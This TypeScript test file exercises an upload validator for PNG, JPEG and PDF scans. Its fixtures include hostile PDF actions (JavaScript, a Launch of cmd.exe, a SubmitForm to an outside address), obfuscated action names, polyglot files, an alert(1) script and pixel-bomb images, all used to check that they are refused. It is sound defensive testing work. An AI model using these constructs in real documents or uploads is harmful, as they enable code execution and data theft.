// Scans by their bytes: what is taken, what is refused and why; and whatever comes, the answer is a scan or a Problem.
import assert from 'node:assert/strict';
import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { Problem } from '../../plugin/domain/problem.js';
import { judgeScan } from '../../plugin/papers/judge-scan.js';
import { LARGEST_SCAN } from '../../plugin/papers/scan.js';
import { aJpeg, aPdf, aPng, jpegSegment, pngChunk, pngHead } from '../support/papers.js';

/** `png 1 x 1`, or the code that it is refused with. */
function verdictOf(file: Buffer): string {
  try {
    const { kind, mediaType, width, height, pages } = judgeScan(file);
    assert.equal(mediaType, { pdf: 'application/pdf', png: 'image/png', jpeg: 'image/jpeg' }[kind]);
    return kind === 'pdf' ? `pdf ${pages ?? '?'}` : `${kind} ${width} x ${height}`;
  } catch (thrown) {
    if (!(thrown instanceof Problem)) throw thrown;
    if (thrown.code !== 'scan-refused') return thrown.code;
    const [fault] = thrown.faults!;
    assert.ok(fault!.detail && /\p{Script=Han}/u.test(fault!.zh!), 'a reason in both languages');
    return fault!.code;
  }
}

const text = (words: string): Buffer => Buffer.from(words, 'latin1');
const behind = (file: Buffer, more: string | number): Buffer => Buffer.concat([file, typeof more === 'string' ? text(more) : Buffer.alloc(more)]);
const flipped = (file: Buffer, at: number): Buffer => {
  const copy = Buffer.from(file);
  const place = at < 0 ? file.length + at : at;
  copy[place] = copy[place]! ^ 1;
  return copy;
};
/** An archive of nothing: its last record is the whole of it. */
const emptyZip = `PK\x05\x06${'\0'.repeat(18)}`;
const picture = pngChunk('IDAT', deflateSync(Buffer.of(0, 128)));
const png = aPng();
const jpeg = aJpeg();
const pdf = aPdf();

const table: readonly (readonly [what: string, file: Buffer, expected: string])[] = [
  // what is taken
  ['a PNG', png, 'png 1 x 1'],
  ['a PNG in colour, with a text chunk and its picture in two', aPng({ width: 2480, height: 3508, form: [8, 2, 0, 0, 1], more: [pngChunk('tEXt', text('Title\0x'))], picture: [picture, picture] }), 'png 2480 x 3508'],
  ['a PNG with a few zero bytes behind it', behind(png, 16), 'png 1 x 1'],
  ['a JPEG', jpeg, 'jpeg 8 x 8'],
  ['a progressive JPEG', aJpeg({ frame: 0xc2 }), 'jpeg 8 x 8'],
  ['a JPEG whose EXIF segment holds another JPEG', aJpeg({ more: [jpegSegment(0xe1, aJpeg({ width: 160, height: 120 }))] }), 'jpeg 8 x 8'],
  ['a JPEG with fill bytes', Buffer.concat([jpeg.subarray(0, 2), Buffer.of(0xff, 0xff), jpeg.subarray(2)]), 'jpeg 8 x 8'],
  ['a PDF', pdf, 'pdf 1'],
  ['a PDF of version 2', text(pdf.toString('latin1').replace('1.7', '2.0')), 'pdf 1'],
  ['a PDF that was added to', Buffer.concat([pdf, text('4 0 obj << /Type /Page >> endobj\nstartxref\n0\n%%EOF\r\n')]), 'pdf 2'],
  ['a PDF that opens on its second page', aPdf('/OpenAction [3 0 R /Fit]'), 'pdf 1'],
  ['a PDF whose pages are packed away', text('%PDF-1.7\n1 0 obj << /Type /ObjStm >> endobj\nstartxref\n0\n%%EOF'), 'pdf ?'],
  // how large
  ['20 MB and a byte', Buffer.alloc(LARGEST_SCAN + 1), 'body-too-large'],
  ['20,001 pixels in a row', aPng({ width: 20_001 }), 'too-many-pixels'],
  ['64 million pixels and more, of a PNG of 70 bytes', aPng({ width: 8_001, height: 8_000 }), 'too-many-pixels'],
  ['64 million pixels', aPng({ width: 8_000, height: 8_000 }), 'png 8000 x 8000'],
  ['4 thousand million rows', aPng({ height: 0xffff_ffff }), 'too-many-pixels'],
  ['a JPEG of 65,535 a side', aJpeg({ width: 65_535, height: 65_535 }), 'too-many-pixels'],
  ['a PNG without width', aPng({ width: 0 }), 'size-missing'],
  ['a JPEG whose height comes later', aJpeg({ height: 0 }), 'size-missing'],
  // what is none of the three
  ['nothing', Buffer.alloc(0), 'unknown-kind'],
  ['one byte', Buffer.of(0xff), 'unknown-kind'],
  ['a text', text('notice'), 'unknown-kind'],
  ['a web page', text('<!doctype html><script>alert(1)</script>'), 'unknown-kind'],
  ['SVG', text('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'unknown-kind'],
  ['a ZIP', text(emptyZip), 'unknown-kind'],
  ['a GIF', text('GIF89a'), 'unknown-kind'],
  ['a TIFF', text('II*\0'), 'unknown-kind'],
  ['a PDF behind a page', Buffer.concat([text('<html></html>\n'), pdf]), 'unknown-kind'],
  ['a PDF behind a ZIP', Buffer.concat([text(emptyZip), pdf]), 'unknown-kind'],
  ['a PDF behind a line break', Buffer.concat([text('\n'), pdf]), 'unknown-kind'],
  ['a PNG behind a script', Buffer.concat([text('alert(1)//'), png]), 'unknown-kind'],
  // two files in one
  ['a PNG with a script behind it', behind(png, '<script>alert(1)</script>'), 'more-behind-the-end'],
  ['a PNG with many zero bytes behind it', behind(png, 17), 'more-behind-the-end'],
  ['a JPEG with a ZIP behind it', behind(jpeg, emptyZip), 'two-files'],
  ['a JPEG with a page behind it', behind(jpeg, '<html>'), 'more-behind-the-end'],
  ['a PDF with a page behind it', behind(pdf, '<html>'), 'more-behind-the-end'],
  ['a PDF with a ZIP behind it', behind(pdf, emptyZip), 'two-files'],
  ['a PDF that hides a ZIP in its last comment', zipInComment(), 'two-files'],
  // broken
  ['a PNG of which the end is missing', png.subarray(0, -12), 'broken'],
  ['a PNG that breaks off in a chunk', png.subarray(0, -14), 'broken'],
  ['a PNG whose signature alone came', pngHead, 'broken'],
  ['a PNG with one bit changed', flipped(png, 45), 'broken'],
  ['a PNG without a picture', aPng({ picture: [] }), 'broken'],
  ['a PNG that begins with its picture', Buffer.concat([pngHead, picture, png.subarray(8)]), 'broken'],
  ['a PNG with two headers', aPng({ more: [png.subarray(8, 33)] }), 'broken'],
  ['a PNG of a depth that there is not', aPng({ form: [3, 0, 0, 0, 0] }), 'broken'],
  ['a PNG of a colour that there is not', aPng({ form: [8, 5, 0, 0, 0] }), 'broken'],
  ['an animated PNG', aPng({ more: [pngChunk('acTL', Buffer.alloc(8))] }), 'animated'],
  ['a PNG of a hundred thousand chunks', aPng({ more: Array.from({ length: 100_000 }, () => pngChunk('tEXt')) }), 'broken'],
  ['a JPEG of which the end is missing', jpeg.subarray(0, -2), 'broken'],
  ['a JPEG that breaks off in its header', jpeg.subarray(0, 24), 'broken'],
  ['a JPEG without a picture', Buffer.of(0xff, 0xd8, 0xff, 0xd9), 'broken'],
  ['a JPEG with two frame headers', aJpeg({ more: [jpegSegment(0xc0, Buffer.of(8, 0, 8, 0, 8, 1, 1, 0x11, 0))] }), 'broken'],
  ['a JPEG whose picture comes before its header', aJpeg({ more: [jpegSegment(0xda, Buffer.of(1, 1, 0, 0, 63, 0))] }), 'broken'],
  ['a JPEG with a segment of no length', aJpeg({ more: [Buffer.of(0xff, 0xe2, 0, 0)] }), 'broken'],
  ['a JPEG with a segment longer than itself', aJpeg({ more: [Buffer.of(0xff, 0xe2, 0xff, 0xff)] }), 'broken'],
  ['a JPEG in a JPEG', aJpeg({ more: [Buffer.of(0xff, 0xd8)] }), 'broken'],
  ['a lossless JPEG', aJpeg({ frame: 0xc3 }), 'unusual'],
  ['an arithmetic JPEG', aJpeg({ frame: 0xc9 }), 'unusual'],
  ['a PDF without its end', pdf.subarray(0, -6), 'broken'],
  ['a PDF of a version that there is not', text('%PDF-9.9\n%%EOF'), 'broken'],
  ['a PDF whose end stands too early', behind(pdf, `%${' '.repeat(1024)}`), 'broken'],
  // PDFs that do something
  ['a PDF with a script', aPdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'active-pdf'],
  ['a PDF with a script, its name written otherwise', aPdf('/OpenAction << /S /J#61va#53cript /JS (x) >>'), 'active-pdf'],
  ['a PDF with a script in its names', aPdf('/Names << /JavaScript 9 0 R >>'), 'active-pdf'],
  ['a PDF that starts a program', aPdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'active-pdf'],
  ['a PDF with a file in it', aPdf('', '4 0 obj << /Type /EmbeddedFile >> endobj\n'), 'active-pdf'],
  ['a PDF with files in its names', aPdf('/Names<</EmbeddedFiles 9 0 R>>'), 'active-pdf'],
  ['a PDF with a film', aPdf('', '4 0 obj<</Subtype/RichMedia>>endobj\n'), 'active-pdf'],
  ['a PDF that plays something', aPdf('/OpenAction << /S /Rendition /OP 0 >>'), 'active-pdf'],
  ['a PDF that sends what was filled in', aPdf('/OpenAction << /S /SubmitForm /F (http://192.0.2.1) >>'), 'active-pdf'],
  ['a PDF that sends, its name written otherwise', aPdf('/OpenAction << /S /Submit#46or#6D >>'), 'active-pdf'],
  ['a PDF that reads a file of its reader’s', aPdf('/OpenAction << /S /ImportData /F (x.fdf) >>'), 'active-pdf'],
  ['a PDF that opens a file in another', aPdf('/OpenAction << /S /GoToE /T << /R /C >> >>'), 'active-pdf'],
  ['a PDF that goes to a page of its own', aPdf('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'), 'pdf 1'],
  ['a PDF with a form of XFA', aPdf('/AcroForm << /XFA 9 0 R >>'), 'active-pdf'],
  ['a PDF with a name that only begins so', aPdf('/Launched true'), 'pdf 1'],
  ['a PDF under a password', aPdf('', 'trailer << /Encrypt 9 0 R >>\n'), 'encrypted-pdf'],
  ['a PDF of a million names and more', aPdf('', '/'.repeat(1_000_001)), 'broken'],
];

/** The comment of the archive's last record reaches to the end of the file. */
function zipInComment(): Buffer {
  const end = '\nstartxref\n0\n%%EOF\n';
  return text(`${pdf.toString('latin1').slice(0, -end.length)}\n%PK\x05\x06${'\0'.repeat(16)}${String.fromCharCode(end.length)}\0${end}`);
}

describe('a scan', () => {
  for (const [what, file, expected] of table) it(`${what}: ${expected}`, () => assert.equal(verdictOf(file), expected));

  const whole = { png, jpeg, pdf };
  for (const [kind, file] of Object.entries(whole)) {
    it(`${kind}: every shorter one is refused`, () => {
      // The line break behind a PDF's end may go.
      for (let length = 0; length < file.length - (kind === 'pdf' ? 1 : 0); length++) assert.doesNotMatch(verdictOf(file.subarray(0, length)), / /, `${length} bytes`);
    });
    it(`${kind}: whatever is changed in it, the answer is a scan or a Problem`, () => {
      const change = fc.array(fc.tuple(fc.nat(file.length - 1), fc.nat(255)), { minLength: 1, maxLength: 8 });
      fc.assert(fc.property(change, (changes) => {
        const copy = Buffer.from(file);
        for (const [at, byte] of changes) copy[at] = byte;
        assert.match(verdictOf(copy), /^[a-z0-9? -]+$/);
      }), { numRuns: 3000 });
    });
  }

  it('whatever follows the first bytes of each kind, the answer is a scan or a Problem', () => {
    const begins = fc.constantFrom('%PDF-1.7\n', pngHead.toString('latin1'), '\xff\xd8\xff', '\xff\xd8\xff\xc0\0\x0b', '');
    const words = fc.constantFrom('/', '#', '#4', '%%EOF', 'PK\x05\x06', '\xff', '\xff\xda', '\xff\xd9', 'IEND', '\0\0\0\0', '/Type /Page', 'stream');
    const bytes = fc.uint8Array({ maxLength: 40 }).map((it) => Buffer.from(it).toString('latin1'));
    fc.assert(fc.property(begins, fc.array(fc.oneof(words, bytes), { maxLength: 40 }), (begin, rest) => {
      assert.match(verdictOf(text(begin + rest.join(''))), /^[a-z0-9? -]+$/);
    }), { numRuns: 5000 });
  });

  it('20 MB of what makes each walk longest are judged as they are read, once', () => {
    const room = LARGEST_SCAN - 2000;
    const worst: readonly (readonly [Buffer, string])[] = [
      [aJpeg({ scan: Buffer.alloc(room, 0xff) }), 'jpeg 8 x 8'],
      [aJpeg({ scan: Buffer.alloc(room, Buffer.of(0xff, 0)) }), 'jpeg 8 x 8'],
      [aJpeg({ more: Array.from({ length: 1000 }, () => jpegSegment(0xfe, Buffer.alloc(20_000))) }), 'jpeg 8 x 8'],
      [aPdf('', '('.repeat(room)), 'pdf 1'],
      [aPdf('', '/a '.repeat(900_000)), 'pdf 1'],
      [aPdf('', `%${'PK\x05\x06'.repeat(room / 4)}\n`), 'pdf 1'],
      [aPng({ more: [pngChunk('tEXt', Buffer.alloc(room))] }), 'png 1 x 1'],
    ];
    for (const [file, expected] of worst) assert.equal(verdictOf(file), expected);
  });
});
